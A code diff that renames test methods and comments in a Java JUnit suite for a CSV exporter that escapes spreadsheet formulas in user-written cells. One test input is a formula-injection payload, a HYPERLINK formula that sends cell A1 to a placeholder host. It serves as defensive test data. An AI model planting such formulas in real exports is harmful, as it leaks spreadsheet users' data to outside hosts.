@@ -26,7 +26,7 @@ import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** What becomes of cells: read again, they are what they were, but for formulas. */
+/** Cells are read again as they were written, except for escaped formulas. */
 class CsvFormatTest {
 
   private static final CsvFormat USUAL = new CsvFormat(false, Formulas.ESCAPE);
@@ -47,10 +47,11 @@ class CsvFormatTest {
     }
   }
 
-  /** A row in which every column of both tables has this cell. */
+  /** A row in which every column of both CSV files has this cell. */
   private List<List<String>> everywhere(CsvFormat csv, String cell) throws Exception {
     List<String> header =
-        Stream.concat(ExportedVideo.COLUMNS.stream(), Failure.COLUMNS.stream()).toList();
+        Stream.concat(ExportedVideo.COLUMNS.stream(), ExportedVideo.FAILURE_COLUMNS.stream())
+            .toList();
     return read(write(csv, header, List.of(Collections.nCopies(header.size(), cell))));
   }
 
@@ -72,7 +73,7 @@ class CsvFormatTest {
         "=HYPERLINK(\"http://h/?\"&A1,\"x\")",
         "-\u00dcbung \ud83d\ude00"
       })
-  void aFormulaBeginsWithAnApostropheInTextOfPeopleAndNowhereElse(String cell) throws Exception {
+  void onlyTextWrittenByPeopleIsEscapedWithAnApostrophe(String cell) throws Exception {
     List<List<String>> table = everywhere(USUAL, cell);
     List<String> text = List.of("Name", "OriginalFileName", "Tags", "Folder", "Reason");
     int defused = 0;
@@ -81,7 +82,7 @@ class CsvFormatTest {
       assertEquals(isText ? "'" + cell : cell, table.get(1).get(i), table.get(0).get(i));
       defused += isText ? 1 : 0;
     }
-    assertEquals(6, defused); // Name is in both tables
+    assertEquals(6, defused); // Name is in both CSV files
     assertTrue(
         everywhere(new CsvFormat(false, Formulas.RAW), cell).get(1).stream()
             .allMatch(cell::equals));
@@ -90,18 +91,18 @@ class CsvFormatTest {
   @ParameterizedTest
   @ValueSource(
       strings = {"", "a=1", "1+1", " =1", "'=1", "\"=1", "\u2212 1", "(=1", "a\n=1", "a,=1"})
-  void anyOtherTextIsAsItWas(String cell) throws Exception {
+  void anyOtherTextIsKept(String cell) throws Exception {
     assertTrue(everywhere(USUAL, cell).get(1).stream().allMatch(cell::equals));
   }
 
   @Test
-  void aFormulaBehindWhatSomeProgramsTakeForASeparatorIsQuoted() throws Exception {
+  void aFormulaBehindAPossibleSeparatorIsQuoted() throws Exception {
     Path table = write(USUAL, List.of("Name", "Tags"), List.of(List.of("a;=1+1", "a; b")));
     assertEquals("Name,Tags\r\n\"a;=1+1\",a; b\r\n", Files.readString(table));
   }
 
   @Test
-  void anyCellsAreReadAgainAsTheyWere() throws Exception {
+  void cellsAreReadAgainAsTheyWereWritten() throws Exception {
     Random random = new Random(1);
     int[] characters =
         "a\u00fc\u51b7\ud83d\ude00,;\"'\r\n\t =#\ufeff\u0000\u2028".codePoints().toArray();
@@ -133,7 +134,7 @@ class CsvFormatTest {
   }
 
   @Test
-  void theBytesAreThoseOfRfc4180WithTheMarkOnlyIfAskedFor() throws Exception {
+  void theBytesFollowRfc4180WithTheByteOrderMarkOnlyIfConfigured() throws Exception {
     List<List<String>> rows = List.of(List.of("1", "=\u00fc, \"x\""), List.of("-2", ""));
     List<String> header = List.of("Id", "Name");
     assertEquals(
@@ -145,7 +146,7 @@ class CsvFormatTest {
   }
 
   @Test
-  void anInterruptIsOneAndNoFaultOfTheDiskAndLeavesTheTableAsItWas() throws Exception {
+  void anInterruptIsNotADiskErrorAndLeavesTheCsvFileUnchanged() throws Exception {
     List<String> header = List.of("Name");
     byte[] before = Files.readAllBytes(write(USUAL, header, List.of(List.of("old"))));
     Thread.currentThread().interrupt();
@@ -157,7 +158,7 @@ class CsvFormatTest {
   }
 
   @Test
-  void aTableThatIsAlreadySoIsLeftAlone() throws Exception {
+  void aCsvFileThatWouldNotChangeIsNotRewritten() throws Exception {
     List<String> header = List.of("Id", "Name");
     Path table = write(USUAL, header, List.of(List.of("1", "one")));
     FileTime longAgo = FileTime.fromMillis(0);
